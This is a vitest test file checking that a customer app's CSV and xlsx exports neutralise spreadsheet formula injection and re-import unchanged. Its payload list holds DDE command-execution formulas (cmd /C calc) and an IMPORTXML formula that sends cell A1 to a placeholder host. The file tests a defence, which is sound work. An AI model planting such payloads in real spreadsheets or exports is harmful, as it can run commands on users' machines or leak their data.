import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from '../../../src-server/lib/cell-text';
import { createTestServer, type TestServer } from '../../support/server';

/**
 * CSV injection (docs/SECURITY.md): text an export writes never starts a formula, numbers stay
 * numbers, and the export imports back exactly.
 */

const PAYLOADS = [
  '=HYPERLINK("http://x","y")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C notepad'!'A1'",
  '+1+1',
  '-1+1',
  '@A1',
  '=IMPORTXML(CONCAT("http://x/?v=", A1), "//a")',
  '\t+cmd',
  '=DDE("cmd";"/C calc";"!A0")A0',
];
/** Texts near them that must come back as they are. */
const NEIGHBOURS = ["'=1+1", "''@x", "'plain", '-12.50', 'a=1', ' =1'];

let s: TestServer;
let headers: Record<string, string>;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
// Starts with a formula character and is no plain number (`-12.50` is a number).
const FORMULA = /^(?!-?\d+(?:\.\d+)?$)[=+\-@\t\r]/;

beforeAll(async () => {
  s = await createTestServer();
  headers = s.auth(await s.login());
  for (const [i, text] of [...PAYLOADS, ...NEIGHBOURS].entries()) {
    const answer = await s.app.inject({
      method: 'POST',
      url: '/api/customers/customer/',
      headers,
      payload: {
        mobile: `1390013${String(i).padStart(4, '0')}`,
        full_name: `客户${i}`,
        note: text,
      },
    });
    expect(answer.statusCode, answer.body).toBe(201);
  }
});
afterAll(() => s.close());

const list = async () =>
  (
    await s.app.inject({ method: 'GET', url: '/api/customers/customer/?page_size=100', headers })
  ).json().results as { mobile: string; note: string; points: number }[];
const exported = (format: string) =>
  s.app.inject({ method: 'GET', url: `/api/customers/customer/?format=${format}`, headers });
const importBack = (file: Buffer, type: string) =>
  s.app.inject({
    method: 'POST',
    url: '/api/imports/customers/?dry_run=false',
    headers: { ...headers, 'content-type': type },
    payload: file,
  });

describe('exports and formulas', () => {
  it('the API stores the 14 payloads as sent', async () => {
    const notes = (await list()).map((c) => c.note);
    for (const payload of PAYLOADS) expect(notes).toContain(payload);
  });

  it('CSV: no text cell starts a formula; numbers stay numbers; importing it back changes nothing', async () => {
    const before = await list();
    const csv = await exported('csv');
    const rows: string[][] = parse(csv.rawPayload, { bom: true });
    const header = rows[0]!;
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(FORMULA);
    const notes = rows.slice(1).map((row) => row[header.indexOf('note')]);
    for (const payload of PAYLOADS) expect(notes).toContain(`'${payload}`);
    expect(notes).toContain('-12.50');
    expect(notes).toContain("''=1+1");
    const back = await importBack(csv.rawPayload, 'text/csv');
    expect(back.statusCode, back.body).toBe(200);
    expect(
      back.json().totals,
      JSON.stringify(back.json().rows.filter((r: { action: string }) => r.action !== 'unchanged')),
    ).toMatchObject({ rows: before.length, unchanged: before.length });
    expect(await list()).toEqual(before);
  });

  it('xlsx: text cells likewise, numbers as numbers; importing it back changes nothing', async () => {
    const before = await list();
    const xlsx = await exported('xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as string[]).slice(1);
    const pointsColumn = header.indexOf('points') + 1;
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA);
        expect(
          typeof cell.value === 'object' && cell.value !== null && 'formula' in cell.value,
        ).toBe(false);
      });
      expect(typeof row.getCell(pointsColumn).value).toBe('number');
    });
    const back = await importBack(xlsx.rawPayload, XLSX);
    expect(back.statusCode, back.body).toBe(200);
    // XML reads a carriage return back as a line feed (exceljs writes it bare): the one text
    // with a CR comes back with an LF, every other is exact.
    const cr = before.find((c) => c.note === '\r=1+1')!;
    cr.note = '\n=1+1';
    expect(back.json().totals).toMatchObject({ rows: before.length, unchanged: before.length - 1 });
    const notes = (customers: { mobile: string; note: string }[]) =>
      customers.map(({ mobile, note }) => ({ mobile, note }));
    expect(notes(await list())).toEqual(notes(before));
  });

  it('restoreCell undoes neutraliseCell for any text', () => {
    for (const text of [...PAYLOADS, ...NEIGHBOURS, '', "'", "''", '-', '-1', '+1', "'-1", '@'])
      expect(restoreCell(neutraliseCell(text))).toBe(text);
  });
});
